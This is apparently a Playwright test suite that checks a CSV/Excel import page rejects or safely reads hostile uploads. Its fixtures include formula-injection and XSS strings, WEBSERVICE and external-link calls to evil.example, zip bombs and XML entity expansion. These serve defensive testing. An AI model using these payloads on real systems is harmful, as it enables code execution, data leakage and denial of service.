import { truncateSync, writeFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import { writeXlsx } from "hucre/xlsx";
import type { Page, TestInfo } from "@playwright/test";
import { people } from "./fixtures/seed.ts";
import { expect, signIn, test } from "./fixtures/test.ts";
import { sheetRow, workbookFile, zipFile } from "./fixtures/zip-file.ts";

type Hostile = [name: string, content: Buffer | string, says: string];

const million = 1_000_000;
const head = "Konto;Bezeichnung\n";
const utf16 = (...units: (number | string)[]) =>
  Buffer.concat(
    units.map((unit) =>
      typeof unit === "string" ? Buffer.from(unit, "utf16le") : Buffer.from([unit & 0xff, unit >> 8]),
    ),
  );
const compound = Buffer.concat([
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  Buffer.alloc(2048),
]);
const header = sheetRow(1, "Konto", "Bezeichnung");
const formula = (value: string) =>
  `${header}<row r="2"><c r="A2"><f>WEBSERVICE("https://evil.example")</f>${value}</c><c r="B2" t="inlineStr"><is><t>Kasse</t></is></c></row>`;

const noTables: Hostile[] = [
  ["empty.csv", "", "The file is empty"],
  ["mark alone.csv", "\ufeff", "The file is empty"],
  ["blank lines.csv", "\r\n \r\n\t\r\n", "The file is empty"],
  ["delimiters alone.csv", ";;;\n;;;\n", "The file is empty"],
  [
    "binary.csv",
    Buffer.from(Array.from({ length: 4096 }, (_, place) => (place * 7919) % 251)),
    "This is not a table",
  ],
  ["invoice.csv", "%PDF-1.7\n1 0 obj", "This is a PDF, not a table"],
  ["scan.csv", Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]), "This is a picture, not a table"],
  ["photo.csv", Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), "This is a picture, not a table"],
  ["old.xls", compound, "This is a workbook in a format that is not read here"],
  ["packed.csv", gzipSync(head), "This is a packed file"],
  ["packed 7z.csv", Buffer.from([0x37, 0x7a, 0xbc, 0xaf, 0x27, 0x1c]), "This is a packed file"],
  ["packed zip.csv", zipFile([{ name: "a.csv", content: head }]), "This is a packed file"],
  ["page.csv", "<!doctype html><table><tr><td>1000</table>", "This is a web page, not a table"],
  [
    "page.xls",
    "\r\n<html xmlns:x='urn:schemas-microsoft-com:office:excel'>",
    "This is a web page, not a table",
  ],
  ["data.csv", '[{"code":"1000","name":"Kasse"}]', "This is JSON, not a table"],
  ["lines.csv", '{"code":"1000"}\n{"code":"1001"}\n', "This is JSON, not a table"],
  ["data xml.csv", '<?xml version="1.0"?><a/>', "This is XML, not a table"],
  ["letter.csv", "{\\rtf1 Konto;Name}", "This is not a table"],
  ["prose.txt", "Dear customer\nhere is the file\n", "No columns were found"],
  ["header alone.csv", head, "There is a header and nothing below it"],
  ["unclosed.csv", `${head}1000;"Kasse\n1001;Bank\n`, "A quotation mark is never closed"],
  ["million columns.csv", `${";".repeat(million)}\n1000;Kasse\n`, "A row has more than 16,384 columns"],
  ["cells without end.csv", `${head}${";".repeat(5 * million)}`, "A row is longer than a million characters"],
  ["too many rows.csv", "1;a\n".repeat(1_001_000), "The file has more than a million rows"],
  ["too many blank rows.csv", head + "\n".repeat(1_001_000), "The file has more than a million rows"],
];

const noWorkbooks = async (): Promise<Hostile[]> => {
  const sheets = [
    {
      name: "K",
      rows: [
        ["Konto", "Name"],
        ["1000", "Kasse"],
      ],
    },
  ];
  const whole = Buffer.from(await writeXlsx({ sheets }));
  const locked = Buffer.from(await writeXlsx({ sheets, encryption: { password: "secret", spinCount: 1 } }));
  const zeros = Buffer.alloc(450 * 1024 * 1024);
  const bomb = (declared: number) =>
    zipFile([
      { name: "[Content_Types].xml", content: "<Types/>" },
      { name: "_rels/.rels", content: zeros, declared },
    ]);
  const corner = `${header}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`;
  return [
    ["encrypted.xlsx", locked, "This workbook has a password"],
    ["cut off.xlsx", whole.subarray(0, whole.length / 2), "The workbook is damaged"],
    ["no sheets.xlsx", workbookFile(null), "The workbook has no sheet that can be read"],
    [
      "no parts.xlsx",
      zipFile([{ name: "[Content_Types].xml", content: "<Types/>" }]),
      "The workbook is damaged",
    ],
    ["corners.xlsx", workbookFile(corner), "The workbook is damaged"],
    ["bomb.xlsx", bomb(zeros.length), "The workbook is too large when it is unpacked"],
    ["bomb that lies.xlsx", bomb(1000), "The workbook is damaged"],
    ["bomb that hides.xlsx", bomb(0), "The workbook is too large when it is unpacked"],
    [
      "sheet.ods",
      zipFile([
        { name: "mimetype", content: "x" },
        { name: "content.xml", content: "<x/>" },
      ]),
      "This is an OpenDocument workbook",
    ],
  ];
};

/** What is read right, or read with its problems named. */
const tables: Hostile[] = [
  ["nul.csv", `${head}1000;Kas\0se\n`, "Account name: invisible or unreadable characters in 1 row"],
  ["bidi.csv", `${head}10\u202e00;Kasse\n`, "Account code: invisible or unreadable characters in 1 row"],
  ["invalid utf-8.csv", Buffer.from(`${head}1000;Geb\u00e4ude\n1001;\u00ff\n`, "latin1"), "Gebäude"],
  [
    "cut letter.csv",
    Buffer.concat([Buffer.from(`${head}1000;Geb`), Buffer.from([0xc3, 0x0a])]),
    "Windows-1252",
  ],
  [
    "half pair.csv",
    utf16(0xfeff, "Konto\tName\n1000\ta", 0xd800, "b\n"),
    "Account name: invisible or unreadable characters in 1 row",
  ],
  ["utf-16 without mark.csv", utf16("Konto;Name\r\n1000;Gebäude\r\n"), "Gebäude"],
  ["formulas.csv", `${head}=1+1;"=cmd|' /C calc'!A0"\n`, "=cmd|' /C calc'!A0"],
  ["script.csv", `${head}1000;<img src=x onerror=alert(1)>\n`, "<img src=x onerror=alert(1)>"],
  ["prototype.csv", "__proto__;constructor\n1000;toString\n1001;valueOf\n", "toString"],
  [
    "equal headers.csv",
    `${"Konto;".repeat(10_000)}Name\n${"1000;".repeat(10_000)}Kasse\n`,
    "Choose the columns yourself",
  ],
  ["quotes.csv", `${head}1000;"""Kasse"" klein"\n"";""\n`, '"Kasse" klein'],
  ["ragged.csv", `${head}1000;Kasse;;;;;\n1001\n`, "Account name: missing in 1 row"],
  ["carriage returns.csv", "Konto;Name\r1000;Kasse\r", "Kasse"],
  ["mixed line ends.csv", 'Konto;Name\r\n1000;"Kas\nse"\r1001;Bank\n', "Bank"],
  ["odd delimiter.csv", "sep=^\r\nKonto^Name\r\n1000^Kas;se\r\n", "Kas;se"],
  ["long.csv", `${head}1000;${"x".repeat(30_000)}\n`, "Account name: longer than 255 characters in 1 row"],
  ["emoji.csv", `${head}1000;👩‍👩‍👧 Kasse\n`, "👩‍👩‍👧 Kasse"],
  [
    "damaged codes.csv",
    `${head}1E+05;Kasse\n`,
    "Account code: written with an exponent, such as 1E+05, in 1 row",
  ],
  ["formulas.xlsx", workbookFile(formula("<v>4711</v>")), "4711"],
  ["formulas without values.xlsx", workbookFile(formula("")), "Account code: missing in 1 row"],
  [
    "external.xlsx",
    workbookFile(header + sheetRow(2, "1000", "Kasse"), [
      {
        name: "xl/externalLinks/externalLink1.xml",
        content: '<externalLink><externalBook r:id="rId1"/></externalLink>',
      },
      {
        name: "xl/externalLinks/_rels/externalLink1.xml.rels",
        content:
          '<Relationships><Relationship Id="rId1" Type="x" Target="https://evil.example/a.xlsx" TargetMode="External"/></Relationships>',
      },
    ]),
    "Kasse",
  ],
  [
    "entities.xlsx",
    workbookFile(header + sheetRow(2, "1000", "Kasse &amp; Bank"), [
      {
        name: "xl/sharedStrings.xml",
        content:
          '<!DOCTYPE sst [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>',
      },
    ]),
    "Kasse & Bank",
  ],
];

const choose = (page: Page, file: string | { name: string; mimeType: string; buffer: Buffer }) =>
  page.locator("input[type=file]").setInputFiles(file);

/** The page is alive: it reads a good file and goes back. */
async function readsTheNext(page: Page): Promise<void> {
  await choose(page, {
    name: "good.csv",
    mimeType: "text/csv",
    buffer: Buffer.from(`${head}1000;Alles gut\n`),
  });
  await expect(page.getByRole("cell", { name: "Alles gut", exact: true })).toBeVisible();
  await page.getByRole("button", { name: "Choose another file", exact: true }).click();
  await expect(page.getByText("Drop a CSV or Excel file here", { exact: true })).toBeVisible();
}

async function open(page: Page): Promise<void> {
  await signIn(page, people.importer);
  await page.goto("/organizations/kontenrahmen-gmbh/imports/new");
}

/** Large files go by a path: Playwright passes no more than 50 MB by itself. */
function largeFile(info: TestInfo, name: string, bytes: number, content: Buffer): string {
  const path = info.outputPath(name);
  writeFileSync(path, content);
  truncateSync(path, bytes);
  return path;
}

async function isRefused(page: Page, [name, content, says]: Hostile): Promise<void> {
  await test.step(name, async () => {
    await choose(page, { name, mimeType: "text/csv", buffer: Buffer.from(content) });
    // As much as a workbook may unpack to takes its time on a busy machine.
    await expect(page.getByRole("main").getByRole("alert")).toContainText(says, { timeout: 60_000 });
    await readsTheNext(page);
  });
}

test("what is no table says what it is, and the page goes on", async ({ page }) => {
  await open(page);
  for (const hostile of noTables) await isRefused(page, hostile);
});

test("hostile workbooks are not unpacked, run or fetched, and the page goes on", async ({ page }) => {
  await open(page);
  for (const hostile of await noWorkbooks()) await isRefused(page, hostile);
});

test("files too large for a row or at all say so", async ({ page }, info) => {
  await open(page);
  const cell = Buffer.alloc(100 * million, "x");
  for (const [file, says] of [
    [largeFile(info, "one cell.csv", cell.length, cell), "A row is longer than a million characters"],
    [
      largeFile(info, "too large.csv", 101 * 1024 * 1024, Buffer.from(head)),
      "The file is larger than can be read",
    ],
  ] as const) {
    await choose(page, file);
    await expect(page.getByRole("main").getByRole("alert")).toContainText(says);
    await readsTheNext(page);
  }
});

test("hostile tables are read as they are, or say what is wrong with which row", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  page.on("dialog", (dialog) => asked.push(dialog.message()));
  await open(page);
  for (const [name, content, says] of tables) {
    await test.step(name, async () => {
      await choose(page, { name, mimeType: "text/csv", buffer: Buffer.from(content) });
      await expect(page.getByRole("main")).toContainText(says);
      await page.getByRole("button", { name: "Choose another file", exact: true }).click();
      await readsTheNext(page);
    });
  }
  expect(asked.filter((address) => !address.includes("localhost") && !address.includes("127.0.0.1"))).toEqual(
    [],
  );
});
